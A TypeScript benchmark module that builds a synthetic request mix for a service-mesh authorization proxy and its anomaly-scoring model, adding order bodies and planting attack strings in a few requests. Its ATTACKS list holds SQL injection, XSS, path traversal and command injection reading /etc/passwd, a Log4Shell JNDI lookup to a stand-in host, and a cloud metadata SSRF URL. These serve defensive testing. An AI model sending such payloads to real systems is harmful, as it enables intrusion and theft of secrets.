// The request mix of the wasm benchmark: the engine benchmark's generated policy and CheckRequest
// corpus (bench/generate-policy.ts), mapped onto HTTP streams the way `meshguard replay` maps
// them, for the busiest workloads. Inbound traffic gets what the CheckRequest corpus lacks for
// anomaly scoring: JSON bodies on a third of the allowed requests and attacks on a few.
import { toCheckInput } from '../control-plane/authz/check-request.js';
import type { CheckInput } from '../control-plane/engine/request.js';
import { buildModel, sampleOf, type AnomalyModel } from '../control-plane/anomaly/model.js';
import { compilePolicy } from '../control-plane/policy/compile.js';
import type { CompiledPolicy } from '../control-plane/policy/compiled.js';
import { parsePolicy } from '../control-plane/policy/load.js';
import type { ChainRequest } from '@meshguard/proxy-wasm-host';
import { httpRequestOf } from '../control-plane/replay/replay.js';
import { BENCH_SHAPE, generateCorpus, generatePolicyDocument, policyYaml, type CheckRequestJson } from './generate-policy.js';
import { Prng } from './lib/prng.js';

export interface MixRequest {
  readonly workload: string;
  readonly kind: string;
  readonly chain: ChainRequest;
  readonly input: CheckInput;
}

export interface Mix {
  readonly policy: CompiledPolicy;
  readonly inbound: readonly MixRequest[];
  readonly egress: readonly MixRequest[];
  /** Learned from the benign inbound requests of the mix. */
  readonly model: AnomalyModel;
  readonly bodies: number;
  readonly attacks: number;
}

const ATTACKS = ["' OR '1'='1", '<script>alert(1)</script>', '../../../../etc/passwd', '${jndi:ldap://evil.example/a}', '; cat /etc/passwd', 'http://169.254.169.254/latest/meta-data/'];
const PRODUCTS = ['running shoes', 'wool jacket', 'leather boots', 'organic cotton dress', 'kids winter set', 'gift card'];

function orderBody(rng: Prng): string {
  const lines = Array.from({ length: 1 + rng.int(6) }, () => ({ sku: `SKU-${10000 + rng.int(90000)}`, name: rng.pick(PRODUCTS), quantity: 1 + rng.int(4), price: Math.round(rng.next() * 20000) / 100 }));
  return JSON.stringify({ customerId: 1 + rng.int(99999), currency: 'EUR', lines, shipping: { street: `${1 + rng.int(200)} Main Street`, city: 'Berlin', zip: String(10000 + rng.int(9000)) }, note: rng.chance(0.3) ? 'leave at the door' : '' });
}

/** Adds a JSON body (and maybe an attack) to an inbound CheckRequest, in place. */
function enrich(request: CheckRequestJson, rng: Prng, attack: string | null): boolean {
  const http = request.attributes.request.http as CheckRequestJson['attributes']['request']['http'] & { body?: string };
  const withBody = rng.chance(1 / 3);
  if (withBody) {
    http.method = 'POST';
    http.headers[':method'] = 'POST';
    http.headers['content-type'] = 'application/json';
    http.body = orderBody(rng);
  }
  if (attack !== null) {
    if (withBody) http.body = JSON.stringify({ ...(JSON.parse(http.body!) as object), note: attack });
    else {
      const sep = http.path.includes('?') ? '&' : '?';
      http.path = `${http.path}${sep}q=${encodeURIComponent(attack)}`;
      http.headers[':path'] = http.path;
    }
  }
  return withBody;
}

function busiest(entries: readonly { workload: string }[], n: number): Set<string> {
  const counts = new Map<string, number>();
  for (const e of entries) counts.set(e.workload, (counts.get(e.workload) ?? 0) + 1);
  return new Set([...counts].sort((a, b) => b[1] - a[1]).slice(0, n).map(([w]) => w));
}

export function buildMix(count: number, workloads: number): Mix {
  const loaded = parsePolicy(policyYaml(generatePolicyDocument(BENCH_SHAPE)), 'bench-policy.yaml');
  if (!loaded.ok) throw new Error('the generated policy is invalid');
  const policy = compilePolicy(loaded.policy, loaded.origin);
  const corpus = generateCorpus(loaded.policy, { count, seed: 0x5eed });
  const rng = new Prng(42);
  const named = corpus
    .map((e) => ({ e, workload: e.input.contextExtensions['meshguard.io/workload'] ?? '' }))
    .filter(({ workload }) => policy.workloads.has(workload));
  const isEgress = (kind: string) => kind.startsWith('egress') || kind === 'ip-literal';
  const inboundEntries = named.filter(({ e }) => !isEgress(e.kind));
  const egressEntries = named.filter(({ e }) => isEgress(e.kind));
  const inboundTop = busiest(inboundEntries, workloads);
  const egressTop = busiest(egressEntries, workloads);
  let bodies = 0;
  let attacks = 0;
  const inbound: MixRequest[] = [];
  for (const { e, workload } of inboundEntries) {
    if (!inboundTop.has(workload)) continue;
    const request = structuredClone(e.request);
    const attack = e.kind === 'inbound-allow' && rng.chance(0.05) ? rng.pick(ATTACKS) : null;
    if (attack !== null) attacks++;
    if (e.kind === 'inbound-allow' && enrich(request, rng, attack)) bodies++;
    const input = toCheckInput(request);
    const chain = httpRequestOf(request, input);
    if (chain) inbound.push({ workload, kind: attack === null ? e.kind : 'attack', chain, input });
  }
  const egress: MixRequest[] = [];
  for (const { e, workload } of egressEntries) {
    if (!egressTop.has(workload)) continue;
    const chain = httpRequestOf(e.request, e.input);
    if (chain) egress.push({ workload, kind: e.kind, chain, input: e.input });
  }
  const benign = inbound.filter((r) => r.kind === 'inbound-allow' && r.input.http);
  const model = buildModel(benign.map((r) => sampleOf(r.input.http!, r.workload)), (_, n) => (n >= 20 ? 'enforce' : 'learn'));
  return { policy, inbound, egress, model, bodies, attacks };
}
